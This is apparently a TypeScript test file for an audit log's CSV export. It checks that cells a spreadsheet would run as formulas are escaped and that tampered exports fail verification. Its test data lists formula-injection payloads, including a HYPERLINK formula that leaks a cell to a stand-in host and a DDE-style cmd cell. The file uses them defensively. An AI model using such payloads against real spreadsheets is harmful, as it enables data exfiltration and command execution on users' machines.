import { resolve } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { removeRegistry, tempRegistry } from "@/lib/registry/test-support/fixture";
import { closeAudit, openAudit } from "./db";
import { exportHead, exportText, toCsvExport, toJsonExport, verifyExport } from "./export";
import { allEvents, recordEvent } from "./log";

let root: string;
beforeEach(() => {
  delete process.env.DATABASE_URL;
  process.env.REGISTRY_MIGRATIONS_DIR = resolve(__dirname, "../../prisma/migrations");
  root = tempRegistry();
});
afterEach(async () => {
  await closeAudit();
  removeRegistry(root);
});

// What a spreadsheet would run as a formula, and values that merely look like the escape.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
  "+1",
  "-2",
  "@SUM(A1:A9)",
  "\tcmd|' /C calc'!A0",
  "\r=1+1",
  "'already quoted",
  "''twice",
  "=",
  "",
  "plain words, with a comma",
];

async function logWithHostileCells() {
  const db = openAudit(root);
  for (const text of HOSTILE) {
    await recordEvent(
      db,
      { name: text, role: "releaser", source: "web" },
      { action: "model.promotion_refused", outcome: "refused", reason: text },
    );
  }
  // A negative score is a number we wrote, not a formula: it stays a number.
  await recordEvent(
    db,
    { name: "ci", role: "cli", source: "cli" },
    { action: "model.promoted", outcome: "succeeded", to: { stem: "v", sha256: null, score: -0.25 }, reason: "ok" },
  );
  return allEvents(db);
}

/** RFC 4180 cells, written independently of the exporter's own parser. */
function cells(csv: string): string[] {
  const out: string[] = [];
  const cell = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/g;
  for (let m = cell.exec(csv); m && m.index < csv.length; m = cell.exec(csv)) {
    out.push(m[1]?.startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : (m[1] ?? ""));
  }
  return out;
}

describe("CSV export and formula injection (issue 16, point 10)", () => {
  it("neutralises every cell a spreadsheet would run, and the export still verifies offline", async () => {
    const events = await logWithHostileCells();
    const csv = toCsvExport(events);
    const written = cells(csv);
    const numbers = new Set(events.flatMap((e) => [String(e.seq), String(e.toScore), String(e.fromScore)]));
    for (const c of written) if (!numbers.has(c)) expect(c, `cell ${JSON.stringify(c)}`).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"`);
    expect(written).toEqual(
      expect.arrayContaining(["'+1", "'-2", "'@SUM(A1:A9)", "'\tcmd|' /C calc'!A0", "'\r=1+1", "''already quoted", "'''twice", "'="]),
    );
    expect(written).toContain("-0.25");

    expect(verifyExport(csv)).toMatchObject({ ok: true, count: HOSTILE.length + 1, format: "csv" });
    // The streamed export is the same text; the JSON export keeps the values as they are.
    const db = openAudit(root);
    let streamed = "";
    for await (const part of exportText(db, "csv", await exportHead(db))) streamed += part;
    expect(streamed).toBe(csv);
    expect(
      JSON.parse(toJsonExport(events))
        .events.map((e: { reason: string }) => e.reason)
        .slice(0, HOSTILE.length),
    ).toEqual(HOSTILE);
  });

  it("still catches a tampered export, including one that drops or adds an escape", async () => {
    const csv = toCsvExport(await logWithHostileCells());
    expect(verifyExport(csv.replace("evil.example", "evil.examp1e")).ok).toBe(false);
    // A value that really starts with a quote is told apart from the escape: dropping one changes it.
    expect(verifyExport(csv.replaceAll(`"''already quoted"`, `"'already quoted"`)).ok).toBe(false);
    expect(verifyExport(csv.replaceAll(`"'+1"`, `"''+1"`)).ok).toBe(false);
    expect(verifyExport(csv.replace("'-2", "'-3")).ok).toBe(false);
  });

  it("verifies a CSV exported before the escaping existed, a value starting with a quote included", async () => {
    const events = await logWithHostileCells();
    const legacy = [
      "seq,at,actor,role,source,action,outcome,correlationId,fromStem,fromSha256,fromScore,toStem,toSha256,toScore,metric,reason,checks,details,prevHash,hash",
      ...events.map((e) =>
        (
          [
            "seq",
            "at",
            "actor",
            "role",
            "source",
            "action",
            "outcome",
            "correlationId",
            "fromStem",
            "fromSha256",
            "fromScore",
            "toStem",
            "toSha256",
            "toScore",
            "metric",
            "reason",
            "checks",
            "details",
            "prevHash",
            "hash",
          ] as const
        )
          .map((k) => {
            const v = e[k];
            if (v === null) return "";
            const s = String(v);
            return s === "" || /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
          })
          .join(","),
      ),
    ].join("\r\n");
    expect(legacy).toContain(",'already quoted,");
    expect(verifyExport(`${legacy}\r\n`)).toMatchObject({ ok: true, count: HOSTILE.length + 1, format: "csv" });
    expect(verifyExport(`${legacy.replace("'already quoted", "'already quoteD")}\r\n`).ok).toBe(false);
  });
});
